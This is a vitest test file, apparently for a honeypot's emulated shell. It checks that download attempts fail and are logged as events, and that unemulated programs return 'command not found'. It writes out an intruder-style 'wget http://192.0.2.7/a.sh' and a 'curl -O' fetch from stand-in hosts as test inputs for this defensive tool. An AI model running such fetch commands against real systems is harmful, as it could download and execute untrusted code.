import { expect, test } from 'vitest';
import { makeProfile } from '../src/profile/profile.ts';
import { openShell } from '../src/shell/session.ts';
import type { ShellEvent } from '../src/visit/shell-port.ts';

test('an attempt to download is told of and fails, and a program that is not imitated is not found', async () => {
  const events: ShellEvent[] = [];
  let output = '';
  const host = {
    write: (_: string, bytes: Uint8Array) => {
      output += Buffer.from(bytes).toString();
    },
    event: (event: ShellEvent) => void events.push(event),
  };
  const shell = openShell({ profile: makeProfile('downloads'), user: 'root', from: '192.0.2.1', host });
  expect(await shell.exec('wget http://192.0.2.7/a.sh')).toBe(4);
  expect(await shell.exec('curl -O files.example/b')).toBe(6);
  expect(await shell.exec('docker ps')).toBe(127);
  expect(output).toContain('docker: command not found');
  expect(events.filter(({ kind }) => kind === 'download').map(({ url }) => url)).toEqual([
    'http://192.0.2.7/a.sh',
    'http://files.example/b',
  ]);
});
